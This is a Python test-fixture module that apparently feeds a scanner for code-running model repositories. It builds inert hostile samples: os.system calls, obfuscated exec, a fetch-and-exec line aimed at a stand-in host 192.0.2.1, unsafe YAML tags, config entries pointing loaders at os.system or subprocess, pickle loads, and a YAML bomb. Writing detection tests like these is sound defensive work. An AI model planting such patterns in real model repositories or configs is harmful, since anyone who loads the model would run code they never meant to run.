"""Repositories whose loading runs code: remote code, classes named by configs, loaders of libraries, native files."""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.builders.hub import config
from tests.hostile import Case

RUN = "import os\nos.system('echo inert')\nclass M: pass\n"
_HIDDEN = "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0IikgIyBwcmludCgiaW5lcnQiKSAjIHByaW50KCJpbmVydCIp'))\n"
BODIES: dict[str, str] = {
    "system": RUN,
    "base64": _HIDDEN,
    "subprocess": "import subprocess\nsubprocess.run(['echo', 'inert'])\n",
    "download": "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1/x').read())\n",
    "requests": "import requests\nrequests.post('http://192.0.2.1/', data='inert')\n",
    "socket": "import socket\nsocket.create_connection(('192.0.2.1', 80))\n",
    "ctypes": "import ctypes\nctypes.CDLL('./x.so')\n",
    "alias": "import os as o\nr = o.system\nr('echo inert')\n",
    "from-import": "from os import system as s\ns('echo inert')\n",
    "getattr": "import os\ngetattr(os, 'system')('echo inert')\n",
    "import-call": "__import__('os').system('echo inert')\n",
    "importlib": "import importlib\nimportlib.import_module('os').system('echo inert')\n",
    "builtins": "__builtins__['exec']('pass')\n",
    "called-function": "import os\ndef setup():\n    os.system('echo inert')\nsetup()\n",
    "called-through": "import os\ndef a():\n    b()\ndef b():\n    os.system('echo inert')\na()\n",
    "class-body": "import os\nclass M:\n    x = os.system('echo inert')\n",
    "decorator": "import os\n@(lambda f: os.system('echo inert'))\ndef f(): pass\n",
    "default": "import os\ndef f(x=os.system('echo inert')): pass\n",
    "comprehension": "import os\n[os.system(c) for c in ['echo inert']]\n",
    "try": "try:\n    import os\n    os.system('echo inert')\nexcept Exception: pass\n",
    "pickle": "import pickle\npickle.load(open('x.bin', 'rb'))\n",
    "torch-load": "import torch\ntorch.load('x.bin', weights_only=False)\n",
    "marshal": "import marshal\nexec(marshal.loads(b'inert'))\n",
    "compile": "eval(compile('1', 'x', 'eval'))\n",
    "cpp-extension": "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'int f();')\n",
    "dynamic-import": "import importlib\nm = importlib.import_module('o' + 's')\nm.system('echo inert')\n",
    "syntax-error": "def f(:\n",
}


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _remote(body: str, **more: bytes) -> dict[str, bytes]:
    return {
        "config.json": _json(config(auto_map={"AutoModel": "modeling_x.M"})),
        "modeling_x.py": body.encode(),
        **more,
    }


def cases() -> Iterator[Case]:
    """Every case of code."""
    for name, body in BODIES.items():
        yield Case("code", name, _remote(body))
    helper = {"helper.py": RUN.encode()}
    repositories: dict[str, dict[str, bytes]] = {
        "relative-import": {**_remote("from .helper import x\nclass M: pass\n"), **helper},
        "relative-import-twice": {**_remote("from .a import x\n"), "a.py": b"from . import helper\n", **helper},
        "relative-package": {
            **_remote("from .pkg.inner import x\n"),
            "pkg/__init__.py": b"",
            "pkg/inner.py": RUN.encode(),
        },
        "other-repository": {"config.json": _json(config(auto_map={"AutoModel": "evil/repo--modeling_x.M"}))},
        "missing-file": {"config.json": _json(config(auto_map={"AutoModel": "modeling_gone.M"}))},
        "tokenizer": {
            "tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}}),
            "tokenization_x.py": RUN.encode(),
        },
        "processor": {
            "preprocessor_config.json": _json({"auto_map": {"AutoImageProcessor": "image_x.P"}}),
            "image_x.py": RUN.encode(),
        },
        "custom-generate": {"generation_config.json": _json({"custom_generate": "evil/generate--generate.run"})},
        "sentence-transformers": {
            "modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "evil_module.Pooler"}]),
            "evil_module.py": RUN.encode(),
        },
        "sentence-transformers-stdlib": {
            "modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
        },
        "diffusers": {
            "model_index.json": _json({"_class_name": "Pipeline", "unet": ["evil_unet", "UNet"]}),
            "evil_unet.py": RUN.encode(),
        },
        "diffusers-class": {
            "model_index.json": _json({"_class_name": ["evil_pipeline", "P"]}),
            "evil_pipeline.py": RUN.encode(),
        },
        "diffusers-stdlib": {"model_index.json": _json({"_class_name": "Pipeline", "unet": ["subprocess", "Popen"]})},
        "peft": {
            "adapter_config.json": _json(
                {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
            )
        },
        "hydra-json": {"params.json": _json({"model": {"_target_": "os.system", "command": "echo inert"}})},
        "hydra-yaml": {"config.yaml": b"model:\n  _target_: subprocess.run\n  args: [echo]\n"},
        "hydra-partial": {"config.yaml": b"a:\n  - _target_: builtins.eval\n    _args_: ['1']\n"},
        "hydra-library-function": {"config.yaml": b"model:\n  _target_: torch.hub.load\n"},
        "hydra-unknown": {"config.yaml": b"model:\n  _target_: evil_package.run\n"},
        "mlflow": {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: evil_loader\n",
            "evil_loader.py": RUN.encode(),
        },
        "mlflow-stdlib": {"MLmodel": b"flavors:\n  python_function:\n    loader_module: runpy\n"},
        "yaml-apply": {"config.yaml": b"a: !!python/object/apply:os.system ['echo inert']\n"},
        "yaml-name": {"config.yaml": b"a: !!python/name:os.system\n"},
        "yaml-new": {"config.yaml": b"a: !!python/object/new:subprocess.Popen [[echo]]\n"},
        "yaml-module": {"config.yaml": b"a: !!python/module:evil\n"},
        "yaml-bomb": {
            "config.yaml": b"a: &a [x,x]\n"
            + b"".join(b"%c: &%c [" % (c, c) + b",".join([b"*%c" % (c - 1)] * 60) + b"]\n" for c in range(98, 104))
        },
        "yaml-deep": {"config.yaml": b"[" * 5000},
        "elf": {"model.so": b"\x7fELF\x02\x01\x01" + bytes(64)},
        "elf-no-name": {"weights": b"\x7fELF\x02\x01\x01" + bytes(64)},
        "dll": {"model.dll": b"MZ\x90\x00" + bytes(64)},
        "macho": {"lib.dylib": b"\xcf\xfa\xed\xfe" + bytes(64)},
        "pyc": {"modeling_x.pyc": b"\xa7\r\r\n" + bytes(64)},
        "shell": {"install.sh": b"#!/bin/sh\necho inert\n"},
        "script-as-text": {"notes.txt": b"#!/bin/sh\necho inert\n"},
        "batch": {"run.bat": b"@echo inert\r\n"},
        "wasm": {"model.wasm": b"\0asm\x01\0\0\0"},
        "llamafile": {"model.llamafile": b"MZqFpD='inert'"},
        "unreached": {"modeling_y.py": RUN.encode()},
    }
    for name, files in repositories.items():
        yield Case("repository", name, files)
